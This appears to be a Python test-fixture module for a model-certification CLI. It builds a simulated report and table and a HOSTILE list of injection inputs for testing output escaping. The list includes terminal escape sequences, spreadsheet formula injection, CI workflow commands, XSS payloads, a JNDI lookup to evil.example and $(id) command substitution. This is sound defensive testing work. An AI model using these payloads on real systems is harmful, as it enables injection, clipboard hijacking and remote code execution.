"""A report and a list that hold everything a format must cope with, and texts that attack every place of showing.

For the tests of formats, ours and those of plug-ins; nothing else imports it.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from certify_cli.types.costs import Cost
from certify_cli.types.findings import Badge, Mark, Status
from certify_cli.types.reports import (
    Column,
    Decision,
    Percentiles,
    ProbeReport,
    RatingParts,
    Reason,
    Report,
    RunInfo,
    Table,
    TargetReport,
    Tokens,
)

HOSTILE = (
    "\x1b[2J\x1b[31mred",
    "\x1b]52;c;ZWNobyBoaQ==\x07 writes the clipboard",
    "\x1b]8;;https://evil.example\x1b\\a link\x1b]8;;\x1b\\",
    "\x9b31m and \x9d8;;https://evil.example\x9c",
    "abc\u202edcba\u2066\u2069 \u200e\u200f\u061c",
    "zero\u200bwidth\ufeffjoin\u200d\u2060er\u00ad",
    "tags \U000e0041\U000e0042 private \ue000\U000f0000 filler \u3164\u2800",
    "a\rb\x08\x08\x00\x7f\x85c\u2028d\u2029e\x0bf\x0cg",
    "lone \ud800 and \udfff surrogates",
    "not XML: \x01 \x1f \ufffe \uffff ]]> &amp; <a b='c'>",
    '=HYPERLINK("https://evil.example";"x")',
    " \t=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "harmless\n=1+1\r\n@x",
    "cell;=1+1;\u00a0-2",
    "\u200b=1",
    "::error file=a.py,line=1::pwned",
    "  ::add-mask::secret",
    "\u3000::stop-commands::x",
    "fine\n::set-output name=a::b\n   ::debug::x",
    "##vso[task.setvariable variable=a]b and ##[command]x and ##teamcity[buildStop] and ##VSO[x]",
    "section_start:1700000000:x\r\x1b[0Kheader section_end:1700000000:x",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/x.png) [click](javascript:alert(1)) <https://evil.example>",
    "@everyone see #1, GH-2, www.evil.example and mallory@evil.example",
    "| a | b \\| c \\\\| d |\n|---|---|",
    "# heading\n- list\n> quote\n---",
    "`code` ``` fence ```` longer ~~~\n```\nout\n```",
    "ends in a backslash \\",
    "[bold]x[/] [link=https://evil.example]y[/link] [/] :bomb:",
    "{{7*7}} ${jndi:ldap://evil.example} %0aX $(id)",
    "x" * 1_000_000,
    "\u4e2d\u6587 \u65e5\u672c \U0001f600 e\u0301 na\u00efve",
    "",
    " ",
)
"""One attack, or one awkward but honest text, an entry."""

_STARTED = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
_CERTIFIED = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
_RUN = "0b9f6a52-6d6e-4b0c-9a53-5a3f0c1d2e4f"


_PROBES = (
    ProbeReport(id="reachable", mark=Mark.PASS, required=True, trials=1, passed=1, duration_ms=812.4),
    ProbeReport(id="answers", mark=Mark.PASS, required=True, flaky=True, trials=3, passed=2, duration_ms=2411.0),
    ProbeReport(
        id="tool_use",
        mark=Mark.FAIL,
        category="CAPABILITY_UNSUPPORTED",
        message="no toolUse block came",
        remedy="remove the claim from the registry",
        trials=3,
        duration_ms=3000.0,
        request_ids=("6d0f2c1e-0001", "6d0f2c1e-0002"),
    ),
    ProbeReport(id="streaming", mark=Mark.INCONCLUSIVE, category="THROTTLED", message="throttled 4 times", trials=1),
    ProbeReport(id="vision", mark=Mark.FAIL, demand="observed", message="nobody claims it", trials=1),
    ProbeReport(id="guardrails", mark=Mark.SKIPPED, demand="not_applicable", message="no guardrail given"),
)


def target(route: str, status: Status, rating: float | None = None, badge: Badge | None = None) -> TargetReport:
    """A simulated target in us-east-1 with that verdict and nothing else."""
    return TargetReport(
        target=f"{route}@us-east-1",
        model=route.removeprefix("us."),
        vendor=route.removeprefix("us.").partition(".")[0],
        kind="chat",
        route=route,
        region="us-east-1",
        account="0123",
        api="converse",
        asked=route,
        status=status,
        rating=rating,
        badge=badge,
        suite="smoke",
        origin="simulated",
    )


_WARNED = replace(
    target("us.anthropic.claude-sonnet-4-5-20250929-v1:0", Status.QUALITY_WARNING, 3.9, Badge.FUNCTIONAL),
    reason="10/12, failed: tool_use, flaky: answers",
    served="anthropic.claude-sonnet-4-5-20250929-v1:0",
    rating_parts=RatingParts(success=0.83, resilience=1.0, performance=0.4, stability=0.75),
    certified_at=_STARTED,
    latency_ms=Percentiles(p50=812.4, p90=2411.0, samples=12),
    ttft_ms=Percentiles(p50=120.25, samples=3),
    calls=14,
    retries=2,
    tokens=Tokens(input=1200, output=345),
    cost_usd=Decimal("0.0000001"),
    coverage=0.92,
    probes=_PROBES,
)
_OPENAI = TargetReport(
    target=None,
    model="gpt-4-turbo",
    provider="openai",
    asked="openai/gpt-4-turbo",
    status=Status.UNSUPPORTED,
    reason="provider openai is not Bedrock",
    category="UNSUPPORTED_MODEL",
)
_TARGETS = (
    replace(target("us.amazon.nova-lite-v1:0", Status.CERTIFIED, 4.8, Badge.PREMIUM), certified_at=_STARTED),
    replace(
        target("amazon.nova-pro-v1:0", Status.CERTIFIED, 4.2, Badge.RECOMMENDED),
        cached=True,
        certified_at=_CERTIFIED,
        expires_at=_CERTIFIED + timedelta(days=7),
        lifecycle="LEGACY",
        eol_date=date(2027, 1, 15),
    ),
    _WARNED,
    replace(
        target("meta.llama3-8b-instruct-v1:0", Status.FAILED, 0.0, Badge.UNAVAILABLE),
        reason="access to the model is not granted",
        category="ACCESS_NOT_GRANTED",
        remedy="request access in the Bedrock console of us-east-1",
        uncurated=True,
    ),
    replace(target("mistral.mistral-large-2402-v1:0", Status.INCONCLUSIVE), reason="1/3 decided, streaming: throttled"),
    replace(target("cohere.command-r-v1:0", Status.CANCELLED), reason="the run was started anew", named=True),
    replace(target("amazon.nova-sonic-v1:0", Status.UNSUPPORTED), reason="speaks the bidirectional API only"),
    target("ai21.jamba-1-5-mini-v1:0", Status.PENDING),
    target("ai21.jamba-1-5-large-v1:0", Status.QUEUED),
    target("deepseek.r1-v1:0", Status.PROCESSING),
    _OPENAI,
)
REPORT = Report(
    partial=True,
    run=RunInfo(id=_RUN, started_at=_STARTED, state="interrupted", origin="simulated", suite="smoke", version="0.1.0"),
    decision=Decision(
        outcome="breached",
        exit_code=1,
        reasons=(
            Reason(rule="status", target="meta.llama3-8b-instruct-v1:0@us-east-1", message="FAILED"),
            Reason(
                rule="status",
                target="us.anthropic.claude-sonnet-4-5-20250929-v1:0@us-east-1",
                message="QUALITY_WARNING",
                waiver={"reason": "tools are not used", "expires": "2026-12-06"},
            ),
            Reason(rule="coverage", target=None, message="3 targets are not decided"),
        ),
    ),
    totals=dict(Counter(one.status.value for one in _TARGETS)),
    cost_usd=Cost(estimated=Decimal("0.02"), actual=Decimal("0.0123")),
    targets=_TARGETS,
)
"""Every status, cached, flaky, waived, uncurated, of another provider, unfinished; simulated."""

TABLE = Table(
    title="Models that can be certified",
    columns=(
        Column(key="model", title="Model"),
        Column(key="certifiable", title="OK"),
        Column(key="regions", title="Regions"),
        Column(key="calls", title="Calls", numeric=True),
        Column(key="usd", title="USD", numeric=True),
        Column(key="reason", title="Reason"),
    ),
    rows=(
        {
            "model": "amazon.nova-lite-v1:0",
            "certifiable": True,
            "regions": ["eu-west-1", "us-east-1"],
            "routes": ({"id": "us.amazon.nova-lite-v1:0", "regions": ("us-east-1", "us-west-2")},),
            "calls": 3,
            "usd": Decimal("0.0000001"),
            "reason": None,
            "eol_date": None,
        },
        {
            "model": "gpt-4-turbo",
            "certifiable": False,
            "regions": [],
            "calls": -1,
            "reason": "=not Bedrock",
            "usd": None,
        },
    ),
    id_key="model",
    note="1 more cannot be certified: --all shows why",
)


def hostile_report(text: str) -> Report:
    """`REPORT` with the text in every field that a model, a service or a file can fill."""
    probe = replace(_PROBES[2], message=text, remedy=text, request_ids=(text,), category=text)
    said = {"reason": text, "remedy": text, "served": text, "principal": text, "account_name": text, "asked": text}
    bad = replace(_WARNED, probes=(probe, replace(_PROBES[3], id=text, message=text)), **said)  # type: ignore[arg-type]  # all str
    odd = replace(_OPENAI, model=text, provider=text, reason=text, category=text)
    reasons = (Reason(rule="status", target=text, message=text, waiver={"reason": text, "expires": text}),)
    decision = Decision(outcome="breached", exit_code=1, reasons=reasons)
    return replace(REPORT, decision=decision, targets=(bad, odd, replace(bad, target=text, named=True)))


def hostile_table(text: str) -> Table:
    """`TABLE` with the text as a cell, in a list, as an id, in a title and in the note."""
    row = {"model": text, "regions": [text, "us-east-1", text], "reason": text, "routes": [{"id": text}], "calls": 1}
    columns = (*TABLE.columns, Column(key="routes", title=text))
    return replace(TABLE, title=text, note=text, rows=(row, *TABLE.rows), columns=columns)
